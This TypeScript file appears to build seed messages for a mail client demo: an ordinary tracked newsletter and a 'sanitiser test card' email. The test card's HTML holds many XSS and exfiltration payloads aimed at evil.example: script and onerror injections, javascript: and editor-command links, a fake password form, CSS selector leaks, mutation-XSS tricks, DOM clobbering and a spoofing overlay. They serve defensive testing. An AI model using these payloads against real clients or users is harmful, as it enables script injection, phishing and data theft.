import type { DemoMessage } from '../server/seed.ts';
import { html, mail, multipart, person, text, type DemoClock } from './build.ts';

const base = 'https://img.sprocketweekly.example/issue-212';
const track = (n: number): string => `https://click.sprocketweekly.example/c/212/${n}?r=cm9iaW4`;

const stories: readonly (readonly [title: string, blurb: string])[] = [
  [
    'The date parser that refused February',
    'A team in the north rewrote a date library and learned that the calendar has more edge cases than the code has lines.',
  ],
  [
    'Two spaces, forever',
    'An oral history of a style guide. Eleven witnesses, nine versions, one survivor who still presses Tab.',
  ],
  ['Your queue is a database', 'And your database is a queue. What happens when both find out on the same Friday.'],
  ['Reader’s corner: the rubber duck speaks', '“It asked me what the invariant was. I had to lie down.”'],
];

/** A newsletter as they come: tables, remote images, a tracking pixel, one-click unsubscribe (RFC 8058). */
export function newsletter(clock: DemoClock): DemoMessage {
  const rows = stories.map(
    (
      [title, blurb],
      i,
    ) => `<tr><td width="140" valign="top"><img src="${base}/story-${i + 1}.jpg" width="128" height="96" alt="" border="0"></td>
<td valign="top"><h2 style="font-size:17px;margin:0 0 6px"><a href="${track(i + 1)}" style="color:#0b5c7a">${title}</a></h2><p style="margin:0 0 18px;line-height:1.45">${blurb}</p></td></tr>`,
  );
  const page = `<!DOCTYPE html><html><head><title>Sprocket Weekly 212</title><style>body{background:#eef1f3;margin:0;font-family:Georgia,serif}.frame{background:#fff;max-width:620px;margin:0 auto;padding:24px}@import url("https://fonts.sprocketweekly.example/serif.css");.hero{background-image:url(${base}/hero-bg.png)}</style></head>
<body><div style="display:none">Four stories about time, tabs, queues and ducks.</div><div class="frame"><div class="hero"><img src="${base}/masthead.png" width="572" height="120" alt="Sprocket Weekly"></div>
<p style="color:#666">Issue 212 &middot; for people who read the changelog first</p><table cellpadding="0" cellspacing="0">${rows.join('\n')}</table>
<hr><p style="font-size:12px;color:#888">You get this because you once typed your address into a box. <a href="${track(98)}">Unsubscribe</a> &middot; <a href="${track(99)}">Read in the browser</a></p></div>
<img src="https://t.sprocketweekly.example/open.gif?issue=212&amp;reader=cm9iaW4" width="1" height="1" style="display:block" alt=""></body></html>
`;
  const plain = stories.map(([title, blurb], i) => `* ${title}\n  ${blurb}\n  ${track(i + 1)}\n`).join('\n');
  return mail({
    date: clock.ago(0, 11, 2),
    from: person('Sprocket Weekly', 'editors@sprocketweekly.example'),
    subject: 'Sprocket Weekly 212: the date parser that refused February',
    id: '212.cm9iaW4',
    headers: [
      'List-Id: Sprocket Weekly <weekly.sprocketweekly.example>',
      'List-Unsubscribe: <https://sprocketweekly.example/u/cm9iaW4>,\r\n <mailto:leave@sprocketweekly.example?subject=cm9iaW4>',
      'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
      'Precedence: bulk',
    ],
    content: multipart('alternative', [
      text(`SPROCKET WEEKLY 212\n\n${plain}\nUnsubscribe: ${track(98)}\n`),
      html(page),
    ]),
    flags: [],
  });
}

/** Everything a mail must not be able to do, each harmless and each visible if it happens. */
export function testCard(clock: DemoClock): DemoMessage {
  const page = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/steal.css"><style>@import "https://evil.example/import.css";
#secret[value^="a"]{background:url(https://evil.example/leak?a)} body{position:fixed;inset:0;z-index:99999}</style></head>
<body onload="document.title='1: onload ran'"><h1>Sanitiser test card</h1>
<p>If this page looks dull, all is well. Each line below tries something; none may succeed.</p><ol>
<li>A script. <script>document.body.innerHTML='2: SCRIPT RAN'</script></li>
<li>A broken image with a handler. <img src="x" onerror="this.outerHTML='3: ONERROR RAN'"></li>
<li>A link that is a program: <a href="javascript:alert('4')">run</a>, <a href="command:workbench.action.quit">quit the editor</a>, <a href="vscode://evil.example/x">open</a></li>
<li>A form: <form action="https://evil.example/login" method="post"><label>Mail password <input type="password" name="p" autofocus></label><button formaction="https://evil.example/b">Sign in again</button></form></li>
<li>An SVG: <svg width="20" height="20" onload="alert('5')"><a xlink:href="javascript:alert('6')"><circle cx="10" cy="10" r="8"/></a><foreignObject><iframe srcdoc="&lt;script&gt;parent.postMessage('7','*')&lt;/script&gt;"></iframe></foreignObject></svg></li>
<li>MathML: <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('8')&gt;"></table></mtext></math></li>
<li>Frames and objects: <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e"></li>
<li>Trackers: <img src="https://evil.example/pixel.gif" width="1" height="1"><img srcset="https://evil.example/2x.png 2x"><picture><source srcset="https://evil.example/s.webp"><img></picture><video poster="https://evil.example/poster.jpg" src="https://evil.example/v.mp4" autoplay></video><input type="image" src="https://evil.example/i.png"><table background="https://evil.example/bg.png"><tr><td>table background</td></tr></table><span style="background:url('https://evil.example/css.png')">css background</span></li>
<li>Something laid over the window: <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#c00;color:#fff;z-index:2147483647;font-size:60px">10: OVERLAY</div></li>
<li>Text that says another address: <a href="https://evil.example/bank">https://bank.example/</a></li>
<li>A name that clobbers: <form name="body"><input name="attributes"></form><a id="getElementById"></a></li></ol>
<noscript><p title="</noscript><img src=x onerror=alert('12')>">noscript</p></noscript></body></html>
`;
  return mail({
    date: clock.ago(2, 2),
    from: person('Ines Okafor', 'ines@tidewater.example'),
    subject: 'Sanitiser test card (harmless, as long as we do our job)',
    id: 'test-card',
    content: multipart('alternative', [
      text('The HTML part of this message tries everything a mail must not do. This plain part only says so.\n'),
      html(page),
    ]),
    flags: ['\\Seen', '\\Flagged'],
  });
}
